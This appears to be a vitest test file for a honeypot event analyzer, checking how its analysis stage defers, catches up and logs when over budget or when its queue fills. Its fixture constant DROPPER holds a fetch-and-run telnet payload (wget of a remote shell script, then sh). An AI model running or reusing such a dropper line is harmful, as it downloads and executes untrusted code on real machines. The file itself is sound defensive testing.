// The analysis transform under load: past its batch budget events are stored unanalysed
// and analysed later when idle, a full queue leaves events for reclassify and says so, and
// what is late gives exactly the analysis an on-time event gets.

import { Writable } from 'node:stream';
import { pino } from 'pino';
import { describe, expect, it } from 'vitest';
import { analysisOf, type MitsuEvent } from '../events/event.js';
import { makeEvent } from '../store/fixtures.js';
import { Analyzer, DEFAULT_ANALYZER_SPEC } from './analyzer.js';
import { BudgetedAnalysis, type AnalysisTransformOptions } from './worker-transform.js';

const analyzer = Analyzer.open({ ...DEFAULT_ANALYZER_SPEC, enrich: false });
const DROPPER = 'cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh\r\n';

function events(n: number): MitsuEvent[] {
  return Array.from({ length: n }, (_, i) =>
    makeEvent(i, { protocol: 'telnet' }, Buffer.from(`${DROPPER}#${i}`)));
}

function transform(over: Partial<AnalysisTransformOptions>) {
  const lines: Record<string, unknown>[] = [];
  const sink = new Writable({ write(chunk: Buffer, _enc, done) {
    lines.push(JSON.parse(chunk.toString()) as Record<string, unknown>);
    done();
  } });
  const options = { spec: DEFAULT_ANALYZER_SPEC, logLevel: 'info' as const, ...over };
  return { t: new BudgetedAnalysis(analyzer, pino(sink), options), lines };
}

describe('analysis transform under load', () => {
  it('analyses a batch within its budget at once', () => {
    const { t, lines } = transform({});
    const out = t.apply(events(3));
    expect(out.every((ev) => ev.rules_version === analyzer.version)).toBe(true);
    expect(t.catchUp()).toBeNull();
    expect(lines).toEqual([]);
  });

  it('stores what is past the budget first and analyses it when idle', () => {
    const { t, lines } = transform({ batchBudgetMs: 0 });
    const batch = events(4);
    const stored = t.apply(batch);
    expect(stored).toStrictEqual(batch);
    expect(lines.map((l) => l['msg'])).toEqual([expect.stringMatching(/falling behind/)]);
    const updates = [];
    for (let slice = t.catchUp(); slice !== null; slice = t.catchUp()) updates.push(...slice);
    expect(updates.map((u) => u.id)).toEqual(batch.map((ev) => ev.id));
    for (const [i, update] of updates.entries()) {
      const { id, ...late } = update;
      expect(id).toBe(batch[i]!.id);
      expect(late).toStrictEqual(analysisOf(analyzer.apply(batch[i]!)));
      expect(late.tags.length).toBeGreaterThan(0);
    }
    expect(lines.at(-1)).toMatchObject({ msg: expect.stringMatching(/caught up/), events: 4 });
  });

  it('puts off all of a batch that already waited its budget behind others', () => {
    const { t } = transform({});
    const batch = events(2);
    expect(t.apply(batch, 250)).toStrictEqual(batch);
    expect(t.catchUp()?.map((u) => u.id)).toEqual(batch.map((ev) => ev.id));
  });

  it('leaves events for reclassify once its queue is full, and says since when', () => {
    const batch = events(5);
    const oneEvent = batch[0]!.payload_b64.length;
    const { t, lines } = transform({ batchBudgetMs: 0, maxDeferredBytes: oneEvent * 2 });
    t.apply(batch);
    const full = lines.find((l) => /queue full/.test(String(l['msg'])));
    expect(full).toMatchObject({ events: 1, since: batch[2]!.start });
    expect(full?.['msg']).toContain(`mitsu reclassify --since ${batch[2]!.start}`);
    t.close();
    // The two queued events are older than the first one left out.
    expect(lines.at(-1)).toMatchObject({ msg: expect.stringMatching(/at shutdown/), events: 5,
      since: batch[0]!.start });
  });
});
